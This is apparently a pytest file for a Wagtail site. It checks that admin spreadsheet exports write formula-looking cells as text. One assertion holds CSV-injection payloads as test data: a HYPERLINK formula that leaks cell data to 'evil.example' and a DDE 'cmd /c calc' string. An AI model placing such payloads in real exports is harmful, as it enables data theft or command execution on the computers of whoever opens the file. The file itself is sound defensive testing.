"""Every spreadsheet the admin offers through Wagtail's SpreadsheetExportMixin (Wagtail's reports,
any ModelViewSet or SnippetViewSet with `list_export`, form submissions) writes a formula as text:
in the CSV behind an apostrophe, in the XLSX as a text cell marked "quote prefix" (Excel shows the
text as it is and never runs it). Numbers and dates stay numbers and dates. Our own CSV downloads
are in test_csv_exports.py; base.spreadsheets does both (neutralise_wagtail_exports)."""
import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import Workbook, load_workbook
from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin
from wagtail.contrib.forms.views import SubmissionsListView
from wagtail.contrib.search_promotions.models import Query

from base.spreadsheets import FORMULA_PREFIXES, safe_cell
from tests.factories import UserFactory, make_home_page
from tests.operations.test_csv_exports import FORMULAS

ROOT = Path(__file__).resolve().parents[2]


def routed_views(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from routed_views(pattern.url_patterns, f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix)
        elif getattr(pattern.callback, "view_class", None):
            yield prefix + (pattern.name or ""), pattern.callback


def exporting_views():
    """(URL name, view class, its keyword arguments) for every routed view that can download a
    spreadsheet, and form submissions (routed through a function that picks the view class)."""
    views = {}
    for name, callback in routed_views(get_resolver().url_patterns):
        if issubclass(callback.view_class, SpreadsheetExportMixin) and not name.endswith("_results"):
            views[name] = (callback.view_class, getattr(callback, "view_initkwargs", {}))
    views["wagtailforms:list_submissions"] = (SubmissionsListView, {})
    return views


EXPORTING_VIEWS = exporting_views()


def test_the_list_of_exports_holds_the_reports_staff_download():
    assert {"wagtailadmin_reports:site_history", "wagtailadmin_reports:locked_pages",
            "wagtailadmin_reports:aging_pages", "wagtailadmin_reports:workflow",
            "wagtailsearchpromotions:search_terms", "wagtailredirects:index",
            "wagtailforms:list_submissions", "feedback-responses:index"} <= set(EXPORTING_VIEWS)


@pytest.mark.parametrize("name", sorted(EXPORTING_VIEWS))
def test_every_spreadsheet_download_writes_a_formula_as_text(name):
    view_class, initkwargs = EXPORTING_VIEWS[name]
    view = view_class(**initkwargs)
    row = {f"formula{number}": formula for number, formula in enumerate(FORMULAS)}
    row.update(count=42, amount=Decimal("-3.50"), when=datetime.datetime(2026, 3, 1, 9, 30), text="Fine")

    line = view.write_csv_row(csv.DictWriter(Echo(), fieldnames=list(row)), row).decode()
    cells = next(csv.reader(io.StringIO(line, newline="")))
    assert cells == ["'" + formula for formula in FORMULAS] + ["42", "-3.50", "2026-03-01 09:30:00", "Fine"]

    worksheet = Workbook(write_only=True).create_sheet()
    xlsx = list(view.generate_xlsx_row(worksheet, row, date_format="dd/mm/yyyy hh:mm"))
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in xlsx[:len(FORMULAS)]] == [
        (formula, "s", True) for formula in FORMULAS]
    assert [(cell.value, cell.data_type) for cell in xlsx[len(FORMULAS):]] == [
        (42, "n"), (Decimal("-3.50"), "n"), (datetime.datetime(2026, 3, 1, 9, 30), "d"), ("Fine", "s")]
    assert not xlsx[-1].quotePrefix


@pytest.fixture
def admin_client(db):
    make_home_page()
    client = Client()
    client.force_login(UserFactory(is_superuser=True, is_staff=True, mfa=True))
    return client


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_what_residents_searched_for_downloads_as_text_with_counts_as_numbers(admin_client):
    """The search terms report lists what the public typed into the site search."""
    for formula in FORMULAS:
        Query.get(formula).add_hit()
    searched = dict(Query.objects.values_list("query_string", "daily_hits__hits"))  # as Wagtail keeps them
    assert {"=hyperlink(\"http://evil.example/?leak=\"&a1,\"open\")", "=1+1", "-2+3+cmd|' /c calc'!a0"} <= set(searched)
    url = reverse("wagtailsearchpromotions:search_terms")

    response = admin_client.get(url, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert sorted(rows[1:]) == sorted([safe_cell(term), str(hits)] for term, hits in searched.items())

    rows = read_xlsx(admin_client.get(url, {"export": "xlsx"}))
    assert {row[0].value: row[1].value for row in rows[1:]} == searched
    for term, hits in rows[1:]:
        assert term.data_type == "s" and term.quotePrefix == term.value.startswith(FORMULA_PREFIXES)
        assert hits.data_type == "n"


def test_a_page_titled_with_a_formula_is_text_in_the_site_history_download(admin_client):
    from wagtail.models import Page

    page = Page.objects.get(slug="walsall-together").specific
    page.title = FORMULAS[0]
    page.save_revision().publish()
    url = reverse("wagtailadmin_reports:site_history")

    text = b"".join(admin_client.get(url, {"export": "csv"}).streaming_content).decode()
    assert "'" + FORMULAS[0] in [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]

    rows = read_xlsx(admin_client.get(url, {"export": "xlsx"}))
    titled = [cell for row in rows[1:] for cell in row if cell.value == FORMULAS[0]]
    assert titled and all(cell.data_type == "s" and cell.quotePrefix for cell in titled)
    assert all(isinstance(row[-1].value, datetime.datetime) for row in rows[1:])  # "Date/Time" stays a date


def test_only_base_spreadsheets_writes_csv():
    """Every other CSV download goes through base.spreadsheets (csv_download, csv_bytes,
    csv_text), so none writes a cell without making it safe."""
    writers = sorted(
        str(path.relative_to(ROOT)) for path in ROOT.glob("**/*.py")
        if not path.relative_to(ROOT).parts[0] in {".venv", "tests", "bench", "node_modules"}
        and ("csv.writer(" in (source := path.read_text()) or "csv.DictWriter(" in source))
    assert writers == ["site/base/spreadsheets.py"]
